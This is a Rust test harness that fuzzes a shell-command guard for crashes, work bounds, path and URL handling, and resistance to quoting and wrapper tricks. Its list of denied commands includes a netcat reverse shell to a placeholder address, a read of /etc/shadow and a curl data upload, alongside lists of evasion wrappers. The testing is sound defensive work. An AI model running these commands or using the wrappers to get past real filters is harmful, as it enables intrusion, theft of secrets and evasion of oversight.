//! What must hold for any bytes. The property tests run these with bounded inputs on a stable toolchain, the fuzzers without
//! end on a nightly one.

use caisson_guard::shell::{
    Allowlist, Ask, Decision, Dialect, Group, MAX_DEPTH, MAX_WORDS, MAX_WRAPPERS, Mode, PathDeny, Setting, Verdict,
    judge, outline, scan, see,
};
use caisson_guard::{Exceptions, Target, check_name, classify, glob_matches, hidden_step, host_matches};
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Steps for each byte. A byte is looked at once for each text it stands in and once more for the residue, expansions may add
/// eight bytes for each, and both readings are counted.
pub const STEPS_A_BYTE: usize = 24;

/// Steps for words that expansions and wrappers make, of which there may be so many whatever the length.
pub const STEPS_FOR_WORDS: usize = 4 * MAX_WORDS;

/// The scanner, on any text: no panic, work in proportion to the length, bounded depth, whole verdicts.
pub fn scanner(data: &[u8]) {
    scanned(&String::from_utf8_lossy(data));
}

/// The scanner, on two commands of the cases, changed as the bytes say.
pub fn mutated(data: &[u8]) {
    scanned(&mutation(data));
}

/// What is denied stays denied, however the words are quoted and whatever is put around them.
pub fn disguised(data: &[u8]) {
    let (base, text) = disguise(data);
    assert!(!scan(&text, &Setting::default()).allows(), "`{base}` is denied, and this is allowed: {text}");
}

/// Globs and hidden steps, on any path.
pub fn path(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (glob, path) = text.split_once('\n').unwrap_or((&text, &text));
    let matches = glob_matches(glob, path);
    if !glob.contains('*') {
        assert_eq!(matches, glob == path, "{glob:?} {path:?}");
    }
    assert!(glob_matches("**", path));
    assert!(glob_matches(path, path), "{path:?} matches itself");
    assert_eq!(glob_matches("*", path), !path.contains('/'), "{path:?}");
    if matches {
        assert!(glob_matches(&glob.replace('*', "**"), path), "{glob:?} {path:?}: `**` covers what `*` does");
    }
    let climbs = path.split('/').any(|step| matches!(step, "." | ".."));
    assert!(!climbs || hidden_step(path), "{path:?}");
    assert!(!path.contains('\\') || hidden_step(path), "{path:?}");
    // What is encoded once more hides no less.
    if hidden_step(path) {
        assert!(hidden_step(&path.replace('%', "%25")), "{path:?}");
    }
    denied_path(path);
}

/// A denied path stays denied in any notation that leads there.
fn denied_path(path: &str) {
    let plain =
        !path.is_empty() && path.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'.' || byte == b'/');
    if !plain || path.len() > 64 {
        return;
    }
    let setting = Setting { paths: PathDeny::new("/workspace", &["/app/data"], &[]), ..Setting::default() };
    for text in
        [format!("cat /app/data/{path}x"), format!("cat /app/./data//{path}x"), format!("cat ../app/data/{path}x")]
    {
        let climbs = path.split('/').any(|step| step == "..");
        assert!(climbs || !scan(&text, &setting).allows(), "{text}");
    }
}

/// URLs, names and addresses, on any text.
pub fn address(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (pattern, url) = text.split_once('\n').unwrap_or(("*.example.com", &text));
    let none = Exceptions::default();
    let _ = check_name(url, &none);
    if let Ok(address) = url.parse() {
        let _ = classify(address);
    }
    for url in [url.to_owned(), format!("http://{url}/")] {
        let Ok(target) = Target::parse(&url) else { continue };
        let _ = host_matches(pattern, &target.host);
        // What was read is read again as the same.
        let again = Target::parse(&target.to_string());
        let again = again.unwrap_or_else(|refusal| panic!("{url:?} is read as {target}, which is refused: {refusal}"));
        assert_eq!(again.to_string(), target.to_string(), "{url:?}");
    }
}

/// Settings that take different ways through the scanner.
static SETTINGS: LazyLock<Vec<Setting>> = LazyLock::new(|| {
    let mut off = Setting {
        paths: PathDeny::new("/w", &["/app/data", ".x/"], &["y/"]),
        registered: BTreeSet::from(["gh".to_owned()]),
        approver: true,
        ask: Ask::Always,
        ..Setting::default()
    };
    for group in Group::ALL {
        off.switches.set(group, false);
    }
    let listed = Allowlist::new(&["ls", "git status *", "sed", "echo a*b *"]).unwrap_or_default();
    vec![Setting::default(), off, Setting { mode: Mode::Allowlist(listed), ..Setting::default() }]
});

fn scanned(text: &str) {
    for dialect in [Dialect::Either, Dialect::Bash, Dialect::Posix] {
        let Ok(seen) = see(text, dialect) else { continue };
        let most = STEPS_A_BYTE * text.len() + STEPS_FOR_WORDS;
        assert!(seen.steps <= most, "{} steps for {} bytes: {text:?}", seen.steps, text.len());
        let count = seen.invocations.len();
        for (index, one) in seen.invocations.iter().enumerate() {
            assert!(one.via.len() <= MAX_WRAPPERS, "{text:?}");
            assert!(one.feeds.iter().all(|reader| *reader > index && *reader < count), "{text:?}");
            assert!(one.via.iter().all(|via| via.invocation < index), "{text:?}");
            assert!(text.get(one.span.start..one.span.end).is_some(), "{text:?} {one:?}");
        }
    }
    if let Ok(lines) = outline(text, Dialect::Either) {
        assert!(lines.iter().all(|line| line.depth <= MAX_DEPTH * (MAX_WRAPPERS + 1)), "{text:?}");
    }
    for setting in &*SETTINGS {
        let verdict = scan(text, setting);
        assert!(is_whole(&verdict, text), "{verdict:?}");
        if let Ok(seen) = see(text, setting.dialect) {
            assert_eq!(judge(text, &seen, setting), verdict);
        }
    }
}

/// A verdict that is no approval names its rule, its place and a change that would allow it.
fn is_whole(verdict: &Verdict, text: &str) -> bool {
    let allows = verdict.decision == Decision::Allow;
    allows == verdict.rule.is_empty()
        && allows == verdict.sentence.is_empty()
        && allows == verdict.grant.is_empty()
        && verdict.span.of(text).starts_with(verdict.excerpt.as_str())
}

/// Commands of the cases.
static COMMANDS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let cases = [
        include_str!("../tests/cases/everyday.jsonl"),
        include_str!("../tests/cases/attacks.jsonl"),
        include_str!("../tests/cases/twins/written.jsonl"),
        include_str!("../tests/cases/twins/interpreters.jsonl"),
        include_str!("../tests/cases/twins/wrappers.jsonl"),
    ];
    let lines = cases.into_iter().flat_map(str::lines);
    let input = |line: &str| {
        let case: serde_json::Value = serde_json::from_str(line).ok()?;
        Some(case.get("input")?.as_str()?.to_owned())
    };
    lines.filter_map(input).collect()
});

/// Pieces that mean something to a shell.
const PIECES: &[&str] = &[
    " ",
    "\n",
    ";",
    "&",
    "&&",
    "||",
    "|",
    "(",
    ")",
    "{ ",
    "; }",
    "$(",
    "`",
    "${",
    "}",
    "$((",
    "))",
    "<(",
    "'",
    "\"",
    "\\",
    "$'",
    "<<E\n",
    "\nE\n",
    "<<<",
    ">",
    ">>",
    "2>&1",
    "=",
    "-",
    "--",
    "*",
    "?",
    "[",
    "]",
    "~",
    "$x",
    "${x:-a}",
    "a=b ",
    "env ",
    "sh -c ",
    "eval ",
    "xargs ",
    "sudo ",
    "if ",
    "then ",
    "fi",
    "for x in ",
    "do ",
    "done",
    "f() ",
    "!",
    "#",
    "%s",
    "\\n",
    "/",
    "..",
    "./x",
    "é",
    "\u{200b}",
    "\0",
    "\u{f8f0}",
];

/// The most changes to one command.
const MOST_CHANGES: usize = 32;

/// A command of the cases with changes: the first four bytes choose two commands, and each three after them a change, a place
/// and what is put there.
fn mutation(data: &[u8]) -> String {
    let number = |at: usize| data.get(at).copied().map_or(0, usize::from);
    let command = |at: usize| {
        COMMANDS.get((number(at) * 256 + number(at + 1)) % COMMANDS.len().max(1)).cloned().unwrap_or_default()
    };
    let mut text: Vec<char> = command(0).chars().collect();
    let other: Vec<char> = command(2).chars().collect();
    for change in data.get(4..).unwrap_or_default().chunks(3).take(MOST_CHANGES) {
        let [kind, place, what] = [0, 1, 2].map(|at| change.get(at).copied().map_or(0, usize::from));
        let at = place * (text.len() + 1) / 256;
        let piece: Vec<char> = PIECES.get(what % PIECES.len()).copied().unwrap_or_default().chars().collect();
        let end = (at + 1 + what % 8).min(text.len());
        match kind % 6 {
            0 => drop(text.splice(at..at, piece)),
            1 => drop(text.drain(at.min(end)..end)),
            2 => drop(text.splice(at.min(end)..end, piece)),
            3 => {
                let part: Vec<char> = text.get(at.min(end)..end).unwrap_or_default().to_vec();
                drop(text.splice(at..at, part));
            }
            4 => {
                let from = what * other.len() / 256;
                drop(text.splice(at..at, other.get(from..).unwrap_or_default().iter().copied()));
            }
            _ => text.truncate(at),
        }
    }
    text.into_iter().collect()
}

/// Commands that are denied, word by word.
const DENIED: &[&[&str]] = &[
    &["rm", "-rf", "a"],
    &["sudo", "ls"],
    &["curl", "-d", "a", "https://example.com"],
    &["chmod", "777", "/etc/x"],
    &["cat", "/etc/shadow"],
    &["shutdown", "now"],
    &["git", "clean", "-fdx"],
    &["pip", "install", "x"],
    &["crontab", "a"],
    &["nc", "-e", "sh", "192.0.2.1", "80"],
];

/// Programs that run what stands behind them, with `@` in its place.
const WRAPPERS: &[&str] = &[
    "env @",
    "nice -n 5 @",
    "nohup @",
    "timeout 5 @",
    "memusage @",
    "systemd-cat -t x @",
    "command @",
    "stdbuf -oL @",
    "env - @",
    "setsid @",
    "logsave out @",
    "env x=1 @",
    "not-14 @",
    "xargs @",
    "find . -exec @ \\;",
];

/// What may stand around a command in a shell.
const AROUND: &[&str] = &[
    "( @ )",
    "{ @; }",
    "if true; then @; fi",
    "true && @",
    "false || @",
    "@ | cat",
    "! @",
    "time @",
    "@ &",
    "while true; do @; done",
    "case a in a) @;; esac",
    "f() { @; }; f",
    "echo \"$( @ )\"",
    "ls; @",
    "for i in 1 2; do @; done",
    "cat <( @ )",
    "{ @; } > out.txt",
    "x=$( @ )",
    "select i in 1; do @; done",
    "coproc { @; }",
];

/// A denied command, each word quoted and the whole put into others as the bytes say. The bytes behind the first go round.
fn disguise(data: &[u8]) -> (String, String) {
    let (first, rest) = data.split_first().unwrap_or((&0, &[]));
    let words = DENIED.get(usize::from(*first) % DENIED.len()).copied().unwrap_or_default();
    let mut bytes = rest.iter().copied().chain(std::iter::repeat(0));
    let mut next = || bytes.next().map_or(0, usize::from);
    let quoted: Vec<String> = words.iter().map(|word| quote(word, next(), next())).collect();
    let mut text = quoted.join(if next() % 4 == 1 { "  " } else { " " });
    // A wrapper stands before a program, not before what only a shell reads.
    for kind in [WRAPPERS, AROUND] {
        for _ in 0..next() % 3 {
            let around = kind.get(next() % kind.len()).copied().unwrap_or_default();
            text = around.replace('@', &text);
        }
    }
    (words.join(" "), text)
}

/// A word as any shell reads it back: quoted whole, in part, or letter by letter.
fn quote(word: &str, how: usize, at: usize) -> String {
    let at = at % word.len().max(1);
    let (before, after) = word.split_at_checked(at).unwrap_or((word, ""));
    match how % 6 {
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => format!("{before}''{after}"),
        4 => format!("{before}\"{after}\""),
        5 => format!("{before}\\{after}"),
        _ => word.to_owned(),
    }
}
